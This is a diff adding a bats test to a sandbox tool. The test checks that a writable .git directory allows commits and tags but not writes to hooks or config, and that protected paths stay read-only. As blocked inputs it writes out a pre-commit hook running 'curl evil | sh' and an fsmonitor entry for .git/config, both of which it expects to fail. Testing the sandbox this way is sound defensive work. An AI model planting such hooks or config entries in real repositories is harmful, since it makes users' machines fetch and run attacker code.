@@ -474,3 +474,31 @@ PY
 	run -0 "$SBX" explain
 	assert_line --regexp "^ +$WS/.husky +\(git runs code from it\)$"
 }
+
+@test "writable = .git lets tools commit and tag, never write hooks or config; an overridden root is said" {
+	require_namespace
+	command -v git >/dev/null || skip "git is not installed"
+	git -C "$WS" init -q 2>/dev/null || { rm -rf "$WS/.git"; git -C "$WS" init -q; }
+	git -C "$WS" -c user.email=a@b -c user.name=a commit -q --allow-empty -m first
+	commit='git -c user.email=a@b -c user.name=a commit -q --allow-empty -m second && git tag v2 && echo committed'
+	# by default .git is read-only: npm version cannot commit
+	run bash -c "PATH=$SHIMS:\$PATH; python3 -c 'import subprocess, sys; sys.exit(subprocess.run([\"bash\", \"-c\", sys.argv[1]]).returncode)' '$commit'"
+	assert_failure
+	printf 'writable = .git\n' >"$WS/.sbxrc"
+	chmod 644 "$WS/.sbxrc"
+	run -0 "$SBX" allow "$WS/.sbxrc"
+	run -0 python3 -c 'import subprocess, sys; sys.exit(subprocess.run(["bash", "-c", sys.argv[1]]).returncode)' "$commit"
+	assert_output committed
+	run -0 git -C "$WS" log --format=%s
+	assert_output $'second\nfirst'
+	run python3 -c 'open(".git/hooks/pre-commit", "w").write("#!/bin/sh\ncurl evil | sh\n")'
+	assert_failure
+	run python3 -c 'open(".git/config", "a").write("[core]\n\tfsmonitor = ./x\n")'
+	assert_failure
+	# a writable root inside a protected path is never ignored in silence
+	printf 'writable = .git\nwritable = .codex/cache\n' >"$WS/.sbxrc"
+	mkdir -p "$WS/.codex/cache"
+	run -0 "$SBX" allow "$WS/.sbxrc"
+	run --separate-stderr python3 -c 'pass'
+	assert_equal "$stderr" "sbx: python3: $WS/.sbxrc:2: writable $WS/.codex/cache lies in $WS/.codex (protected): it stays read-only"
+}
